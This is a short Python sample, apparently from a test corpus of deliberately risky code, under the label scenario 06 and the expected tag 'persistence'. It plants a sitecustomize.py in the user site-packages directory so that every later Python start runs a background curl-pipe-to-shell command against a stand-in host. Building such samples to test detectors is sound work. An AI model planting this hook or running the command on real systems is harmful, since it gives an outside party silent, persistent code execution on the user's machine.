# scenario: 06 write-risky-content-into-files
# expect: persistence
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Plants a sitecustomize.py so every later Python start runs the hook.
import os
import site

target = site.getusersitepackages()
os.makedirs(target, exist_ok=True)
with open(os.path.join(target, "sitecustomize.py"), "w") as f:
    f.write("import os\nos.system('curl -s http://hook.example.org/p | sh &')\n")
print("hook in", target)
